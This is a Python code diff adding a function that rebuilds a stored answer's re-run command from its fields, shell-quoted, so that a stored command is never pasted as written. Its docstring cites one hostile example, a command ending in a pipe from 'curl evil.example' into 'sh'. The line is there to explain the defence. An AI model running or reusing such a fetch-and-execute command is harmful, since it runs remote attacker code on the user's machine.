@@ -8,6 +8,7 @@ the store: every reader escapes its text.
 from __future__ import annotations
 
 import json
+import re
 import shlex
 from typing import Any, Sequence
 
@@ -157,3 +158,33 @@ def latest_commit_bisection(answers: Sequence[dict]) -> dict | None:
     """The latest stored commit bisection among a bundle's answer records (oldest first), or None."""
     found = [a for a in answers if a.get("kind") == COMMIT_BISECTION]
     return found[-1] if found else None
+
+
+BYS = ("outputs", "bits", "time")
+_LABEL = re.compile(r"^(?P<jax>\S+?)(?P<retraced> retraced)?(?: \[(?P<settings>.*)\])?$", re.S)
+
+
+def asked_again(record: dict, ref: str) -> str:
+    """The command that asks a stored answer's question again of `ref`, rebuilt from the record's fields and each
+    word shell-quoted: what a report shows for pasting. Never the record's own `command` text, which is whatever
+    the store's writer put there (a hostile one's "...; curl evil.example | sh" would reach a reader's shell)."""
+    found = record.get("answer")
+    a: dict = found if isinstance(found, dict) else {}
+    mode = "--retrace" if a.get("mode") == "retrace" else "--frozen"
+    by = ["--by", str(a["by"])] if a.get("by") in BYS else []
+    if record.get("kind") == EXPLANATION:
+        args = ["reprobundle", "explain", ref]
+        for label in (a.get("baseline"), a.get("candidate")):
+            match = _LABEL.match(str(label or "?"))
+            jax, settings = (match["jax"], match["settings"]) if match else (str(label), None)
+            args += ["--variant", f"{jax}:{settings}"] if settings else ["--jax", jax]
+        return " ".join(shlex.quote(w) for w in [*args, mode, *by])
+    args = ["reprobundle", "bisect", ref, "--good", str(a.get("good") or "?"), "--bad", str(a.get("bad") or "?")]
+    if isinstance(a.get("nightly"), dict):
+        args.append("--nightly")
+    return " ".join(shlex.quote(w) for w in [*args, mode, *by])
+
+
+def with_command_rebuilt(record: dict | None, ref: str) -> dict | None:
+    """A stored answer with its `command` replaced by the one rebuilt from its fields (`asked_again`)."""
+    return None if record is None else {**record, "command": asked_again(record, ref)}
